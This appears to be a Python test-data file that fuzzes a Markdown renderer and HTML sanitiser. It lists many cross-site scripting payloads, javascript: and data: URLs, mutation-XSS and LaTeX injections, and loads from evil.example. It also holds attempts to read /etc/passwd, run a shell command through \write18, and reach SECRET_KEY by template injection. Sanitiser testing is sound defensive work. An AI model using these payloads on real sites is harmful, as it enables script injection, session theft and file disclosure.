"""Hostile texts for the renderer and the sanitiser: each is tried alone and in every place that takes words."""

# Collected from the classics (OWASP's filter evasion list, html5sec, the advisories of bleach, DOMPurify and ammonia).
SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script>/*<!--*/alert(1)//--></script>",
    "</script><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "<noframes><style></noframes><img src=x onerror=alert(1)></style>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)>",
    '<object data="data:text/html,<script>alert(1)</script>">',
    '<embed src="javascript:alert(1)">',
    "<applet code=x></applet>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<!DOCTYPE html><html><head><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<%<img src=x onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src='x' onerror\x0c=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x:x onerror=alert(1) `>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<math onclick=alert(1)>x</math>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a onmouseover=alert(1)>x</a>",
    '<p style="animation-name:x" onanimationstart=alert(1)>',
    "<div tabindex=1 onfocus=alert(1) id=x>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    'x" onerror="alert(1)" x="',
    "&quot; onmouseover=&quot;alert(1)",
    "&#34;&#62;&#60;img src=x onerror=alert(1)&#62;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    '\\"><script>alert(1)</script>',
]
MUTATIONS = [
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><title><style><img title="</style><img src=x onerror=alert(1)>"></title></svg>',
    "<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"/>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><p></p><style><!--</style><img src/onerror=alert(1)>--></style></math>",
    "<table><td><svg><p><style><img src=x onerror=alert(1)></table>",
    "<p><svg><malignmark><style></p><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<a><a><a><table><a href=javascript:alert(1)>x",
    "<b><p></b></p><i></b><img src=x onerror=alert(1)>",
]
ADDRESSES = [  # of links
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "javascript&#x0003a;alert(1)",
    "&#106;&#97;&#118;&#97;script:alert(1)",
    "&#0000106avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&#x00;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#x200b;javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\u202ejavascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "javascript\\:alert(1)",
    "java\\script:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript&colon;msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data&colon;text/html,x",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:https://example.org!/x",
    "ms-word:ofe|u|https://evil.example",
    "intent://x#Intent;scheme=javascript;end",
    "tel:1",
    "javascript:1",
    "ftp://example.org/",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example\\x",
    "https:evil.example",
    'https://example.org/"onmouseover=alert(1)//',
    "https://example.org/'onmouseover=alert(1)//",
    "https://example.org/><script>alert(1)</script>",
    "https://user:password@example.org/",
    "https://[::1",
    "https://\u0430pple.example/",
    "mailto:x@example.org?body=<script>alert(1)</script>",
    "?javascript:alert(1)",
    "#javascript:alert(1)",
]
FORMULAS = [
    r"\href{javascript:alert(1)}{x}",
    r"\href{data:text/html,x}{\text{x}}",
    r"\text{<img src=x onerror=alert(1)>}",
    r"\text{<img src='x' onerror='alert(1)'/>}",
    r"\text{<img src='/media/x.png' srcset='/media/x.png 1w,https://evil.example/x.png 2w'/>}",
    r"\text{<img src='/media/../admin/logout/'/>}",
    r"\text{<script>alert(1)</script>}",
    r"\text{<a href='javascript:alert(1)'>x</a>}",
    r"\text{<style>*{display:none}</style>}",
    r"\text{</mtext></math><img src='x' onerror='alert(1)'/><math><mtext>}",
    r"\text{<annotation-xml encoding='text/html'><p>x</p></annotation-xml>}",
    r"\text{<mglyph/><malignmark/>}",
    r"\text{<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>}",
    r"\text{<p class='comparison' id='fn-x'>x</p>}",
    r"\text{<!-- -->}",
    r"\text{<![CDATA[<img src=x onerror=alert(1)>]]>}",
    r"\text{&lt;img src=x onerror=alert(1)&gt;}",
    r"\text{&xxe;}",
    r"\style{background:url(//evil.example)}{x}",
    r"\class{reference}{x}",
    r"\cssId{x}{y}",
    r"\html{<img src=x onerror=alert(1)>}",
    r"\htmlClass{x}{y}",
    r"\includegraphics{//evil.example/x.png}",
    r"\url{javascript:alert(1)}",
    r"\unicode{x3c}script",
    r"\color{red;background:url(//evil.example)}x",
    r"\hspace{99999em}x",
    r"\rule{99999em}{99999em}",
    r"\mathchoice{a}{b}{c}{d}",
    r"\def\x{\x\x}\x",
    r"\newcommand{\x}{\x}\x",
    r"\input{/etc/passwd}",
    r"\write18{id}",
    r"\frac{a",
    r"\frac",
    r"\sqrt[",
    r"\left(",
    r"\right)",
    r"\begin{matrix}",
    r"\end{matrix}",
    r"\begin{cases} a \\",
    r"}{",
    r"^_^_",
    r"&&\\&",
    r"x<y>z&w\"'",
    r"\skew\textbf",
    r"\hline\left\sqrt[",
    r"\substack\style",
    r"{\\{\newcommand\operatorname",
    r"\class\"\class\style\cfrac#\text\input\big",
    r"\mbox\hspace{1em}\input\genfrac",
    r"^\def",
    "{" * 900 + "}" * 900,
    r"\sqrt{" * 280 + "}" * 280,
    r"\frac{" * 300,
    "x" * 2001,
]
FORGERIES = [  # of what Python-Markdown and bleach put into a text on the way
    "\x02wzxhzdk:0\x03",
    "\x02klzzwxh:0000\x03",
    "\x02amp\x03",
    "\x0260\x03script\x0262\x03",
    "wzxhzdk:0 klzzwxh:0000 zz1337820767766393qq qq3936677670287331zz",
    "&#2;wzxhzdk:0&#3;",
    "///Footnotes Go Here///",
    "a\x00b",
    "\x1a\x1b[31m",
    "\ud800",
    "\ufffe\uffff",
    "&#0;&#x0;&#xD800;&#x110000;&#99999999999;",
    "\ufeff\u200b\u200c\u200d\u2060\u00ad",
    "\u202etxt.exe\u202c \u2066\u2067\u2069 \u061c",
    "a\u0301" * 200,
    "\U000e0001\U000e0041",
]
UNCLOSED = [
    "```python\nx = 1",
    "~~~",
    "``` {.python onclick=alert(1)}\nx\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```html linenums="1" title="<img src=x onerror=alert(1)>" hl_lines="1"\n<script>alert(1)</script>\n```',
    "$$\nx",
    "$x",
    r"\(x",
    r"\[",
    r"\begin{align}",
    "/// comparison",
    "/// comparison\n\n//// answer | A\n\n/// comparison\n\n//// answer | B",
    "/// comparison\n    attrs: {onclick: alert(1), id: location, class: reference}\n\nx\n\n///",
    "/// comparison\n    type: x\n\nx\n\n///",
    "//// answer",
    "/// html | img[src=x onerror=alert(1)]\n///",
    "///",
    "> " * 40 + "x",
    "- " * 40 + "x",
    "- a\n    - b\n        - c\n\n> d\n1. e",
    "[a][b][c](d",
    "![](",
    "[[",
    "[[a|",
    '[a]: <javascript:alert(1)> "x\n\n[a]',
    "[^1",
    "a[^1]\n\n[^1]:",
    'a[^"><script>]\n\n[^"><script>]: x',
    "*[x]:",
    '*[<b>]: "onmouseover=alert(1)\n\n<b>',
    "**a*b_c__d`e",
    "| a\n|-\n| `|` <td onclick=alert(1)>",
    "a\n:   b\n    c\n:",
    "# [a](javascript:alert(1)) {#location onclick=alert(1)}",
    "a {: onclick=alert(1) .figure }",
    "[TOC]",
    '--8<-- "/etc/passwd"',
    "{% load x %}{{ settings.SECRET_KEY }}",
    "</div></article></main></body></html>",
    "</p></td></tr></table></math></svg></figure>",
]
# What a picture's place may be asked to load.
PICTURES = [
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](/media/../admin/logout/)",
    "![x](/media/x.png)",
    "![x](figures/../../x.png)",
    '![x](figures/x.png"onerror="alert(1))',
    '![x](figures/grid.png "\\"><script>alert(1)</script>")',
    '!["><script>alert(1)</script>](figures/grid.png \'" onload="alert(1)\')',
    '![x" srcset="https://evil.example/x 2x](figures/grid.png)',
    "![x][y]\n\n[y]: figures/grid.png 'a\" onerror=\"alert(1)'",
    "[![x](figures/grid.png)](javascript:alert(1))",
    "<figures/grid.png>",
]

WORDS = SCRIPTS + HANDLERS + MUTATIONS + FORGERIES
TEXTS = [
    *WORDS,
    *UNCLOSED,
    *PICTURES,
    *[f'[x]({address}) [y](<{address}> "z") <{address}>\n\n[z]: {address}\n\n[z] {address}' for address in ADDRESSES],
    *[f"${formula}$ a\n\n$$\n{formula}\n$$\n\n\\({formula}\\)" for formula in FORMULAS],
]

# Every place of our Markdown that takes words. The first line of a payload stands where there is room for one only.
PLACES = """\
## {line}

*{line}* **{line}** `{line}` [{line}](https://example.org "{line}") <{line}> "{line}"

![{line}](figures/grid.png "{line}")

![{line}](figures/{line}.png '{line}')

> {words}
>
> — {line}, [{line}](https://example.org/{line})

| {line} | b |
|:-------|--:|
| {line} | `{line}` |

Term {line}
:   {words}

1. {line}

A note[^{line}], HTML and [[known|{line}]], [[unknown|{line}]], [[{line}]], DT #{line}, ${line}$.

[^{line}]: {words}

*[HTML]: {line}
*[{line}]: {line}

[{line}]: https://example.org/{line} "{line}"

```{line}
{words}
```

    {line}

$$
\\text{{{line}}}
$$

/// comparison | {line}

//// prompt | {line}

{words}

////

//// answer | {line}

{words}

////

//// answer | {line}

{words}

////

///
"""


def everywhere(words: str) -> str:
    return PLACES.format(words=words, line=words.split("\n")[0])
